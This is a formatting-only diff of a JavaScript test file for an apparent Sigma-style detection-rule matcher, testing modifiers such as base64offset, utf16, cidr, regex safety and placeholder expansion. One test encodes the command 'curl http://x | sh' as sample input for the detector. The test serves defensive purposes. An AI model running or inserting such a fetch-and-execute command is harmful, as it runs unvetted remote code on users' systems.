@@ -31,7 +31,7 @@ describe('string matching', () => {
     expect(m("userAgent|endswith: '.exe'", { userAgent: 'a.exe ' })).toBe(false);
   });
   it('all requires every value', () => {
-    const d = "a|contains|all:\n  - foo\n  - bar";
+    const d = 'a|contains|all:\n  - foo\n  - bar';
     expect(m(d, { a: 'foo and bar' })).toBe(true);
     expect(m(d, { a: 'foo only' })).toBe(false);
   });
@@ -44,7 +44,9 @@ describe('string matching', () => {
     expect(m('errorCode|exists: true', { errorCode: null })).toBe(true);
     expect(m('errorCode|exists: true', {})).toBe(false);
     expect(m('errorCode|exists: false', {})).toBe(true);
-    expect(errorsOf("selection:\n  a|exists: maybe\ncondition: selection")[0]).toContain("'exists' expects true or false");
+    expect(errorsOf('selection:\n  a|exists: maybe\ncondition: selection')[0]).toContain(
+      "'exists' expects true or false",
+    );
   });
   it('neq negates the item', () => {
     expect(m('a|neq: x', { a: 'y' })).toBe(true);
@@ -72,8 +74,12 @@ describe('regular expressions', () => {
     expect(m("a|re|s: 'a.b'", { a: 'a\nb' })).toBe(true);
   });
   it('rejects invalid and catastrophic patterns', () => {
-    expect(errorsOf("selection:\n  a|re: '(a+)+$'\ncondition: selection")[0]).toMatch(/backtrack catastrophically/);
-    expect(errorsOf("selection:\n  a|re: '(unclosed'\ncondition: selection")[0]).toMatch(/invalid regular expression/);
+    expect(errorsOf("selection:\n  a|re: '(a+)+$'\ncondition: selection")[0]).toMatch(
+      /backtrack catastrophically/,
+    );
+    expect(errorsOf("selection:\n  a|re: '(unclosed'\ncondition: selection")[0]).toMatch(
+      /invalid regular expression/,
+    );
     expect(errorsOf("selection:\n  a|i: 'x'\ncondition: selection")[0]).toMatch(/sub-modifier of 're'/);
   });
   it('caps the input length', () => {
@@ -86,14 +92,18 @@ describe('regular expressions', () => {
 describe('encodings', () => {
   it('base64', () => {
     expect(m("a|base64: 'secret'", { a: Buffer.from('secret').toString('base64') })).toBe(true);
-    expect(m("a|base64|contains: 'secret'", { a: `xx${Buffer.from('secret').toString('base64')}` })).toBe(true);
+    expect(m("a|base64|contains: 'secret'", { a: `xx${Buffer.from('secret').toString('base64')}` })).toBe(
+      true,
+    );
   });
   it('base64offset finds the value at any byte offset', () => {
     for (const prefix of ['', 'a', 'ab', 'abc']) {
       const encoded = Buffer.from(`${prefix}curl http://x | sh`).toString('base64');
       expect(m("a|base64offset|contains: 'http://x'", { a: encoded })).toBe(true);
     }
-    expect(m("a|base64offset|contains: 'http://x'", { a: Buffer.from('nothing here').toString('base64') })).toBe(false);
+    expect(
+      m("a|base64offset|contains: 'http://x'", { a: Buffer.from('nothing here').toString('base64') }),
+    ).toBe(false);
   });
   it('utf16le / wide / utf16be / utf16 with base64', () => {
     const le = Buffer.from('cmd', 'utf16le').toString('base64');
@@ -106,7 +116,9 @@ describe('encodings', () => {
     expect(m("a|utf16le: 'cmd'", { a: 'c\u0000m\u0000d\u0000' })).toBe(true);
   });
   it('rejects wildcards in encoded values', () => {
-    expect(errorsOf("selection:\n  a|base64: 'x*'\ncondition: selection")[0]).toMatch(/wildcards cannot be combined with 'base64'/);
+    expect(errorsOf("selection:\n  a|base64: 'x*'\ncondition: selection")[0]).toMatch(
+      /wildcards cannot be combined with 'base64'/,
+    );
   });
 });
 
@@ -119,7 +131,7 @@ describe('numbers and dates', () => {
     expect(m('n|lt: 5', { n: 4.5 })).toBe(true);
     expect(m('n|lte: 5', { n: 6 })).toBe(false);
     expect(m('n|lt: 5', { n: 'abc' })).toBe(false);
-    expect(errorsOf("selection:\n  n|lt: many\ncondition: selection")[0]).toMatch(/'lt' expects a number/);
+    expect(errorsOf('selection:\n  n|lt: many\ncondition: selection')[0]).toMatch(/'lt' expects a number/);
   });
   it('minute, hour, day, week, month, year on ISO timestamps (UTC)', () => {
     const rec = { eventTime: '2024-07-30T21:31:21Z' };
@@ -132,7 +144,7 @@ describe('numbers and dates', () => {
     expect(m('eventTime|year: 2024', rec)).toBe(true);
     expect(m('eventTime|hour: 21', { eventTime: '2024-07-30T23:31:21+02:00' })).toBe(true);
     expect(m('eventTime|hour: 21', { eventTime: 'not a date' })).toBe(false);
-    expect(errorsOf("selection:\n  eventTime|hour: 25\ncondition: selection")[0]).toMatch(/from 0 to 23/);
+    expect(errorsOf('selection:\n  eventTime|hour: 25\ncondition: selection')[0]).toMatch(/from 0 to 23/);
   });
 });
 
@@ -144,7 +156,9 @@ describe('cidr', () => {
     expect(m("sourceIPAddress|cidr: '2001:db8::/32'", { sourceIPAddress: '10.1.2.3' })).toBe(false);
     expect(m("sourceIPAddress|cidr: '10.0.0.0/8'", { sourceIPAddress: '::ffff:10.0.0.1' })).toBe(true);
     expect(m("sourceIPAddress|cidr: '10.0.0.0/8'", { sourceIPAddress: 'ec2.amazonaws.com' })).toBe(false);
-    expect(errorsOf("selection:\n  a|cidr: 'nonsense'\ncondition: selection")[0]).toMatch(/'cidr' expects a network/);
+    expect(errorsOf("selection:\n  a|cidr: 'nonsense'\ncondition: selection")[0]).toMatch(
+      /'cidr' expects a network/,
+    );
   });
 });
 
@@ -163,19 +177,33 @@ describe('fieldref', () => {
 describe('expand', () => {
   it('replaces placeholders from the load options', () => {
     const options = { placeholders: { admins: ['arn:aws:iam::1:role/Admin', 'arn:aws:iam::1:role/Ops*'] } };
-    expect(m("userIdentity.arn|expand: '%admins%'", { userIdentity: { arn: 'arn:aws:iam::1:role/OpsTeam' } }, options)).toBe(true);
-    expect(m("userIdentity.arn|expand: '%admins%'", { userIdentity: { arn: 'arn:aws:iam::1:role/Dev' } }, options)).toBe(false);
+    expect(
+      m(
+        "userIdentity.arn|expand: '%admins%'",
+        { userIdentity: { arn: 'arn:aws:iam::1:role/OpsTeam' } },
+        options,
+      ),
+    ).toBe(true);
+    expect(
+      m("userIdentity.arn|expand: '%admins%'", { userIdentity: { arn: 'arn:aws:iam::1:role/Dev' } }, options),
+    ).toBe(false);
     expect(m("a|expand: '\\%plain%'", { a: '%plain%' }, options)).toBe(true);
   });
   it('makes the rule invalid when a placeholder is unresolved, naming it', () => {
-    expect(errorsOf("selection:\n  a|expand: '%nobody%'\ncondition: selection")[0]).toContain('unresolved placeholder %nobody%');
+    expect(errorsOf("selection:\n  a|expand: '%nobody%'\ncondition: selection")[0]).toContain(
+      'unresolved placeholder %nobody%',
+    );
   });
 });
 
 describe('modifier validation', () => {
   it('names unknown modifiers and rejects conflicting ones', () => {
-    expect(errorsOf("selection:\n  a|contain: x\ncondition: selection")[0]).toBe("detection.selection.a|contain => unknown modifier 'contain'");
-    expect(errorsOf("selection:\n  a|contains|startswith: x\ncondition: selection")[0]).toMatch(/cannot be combined/);
-    expect(errorsOf("selection:\n  a|re|cidr: x\ncondition: selection")[0]).toMatch(/cannot be combined/);
+    expect(errorsOf('selection:\n  a|contain: x\ncondition: selection')[0]).toBe(
+      "detection.selection.a|contain => unknown modifier 'contain'",
+    );
+    expect(errorsOf('selection:\n  a|contains|startswith: x\ncondition: selection')[0]).toMatch(
+      /cannot be combined/,
+    );
+    expect(errorsOf('selection:\n  a|re|cidr: x\ncondition: selection')[0]).toMatch(/cannot be combined/);
   });
 });
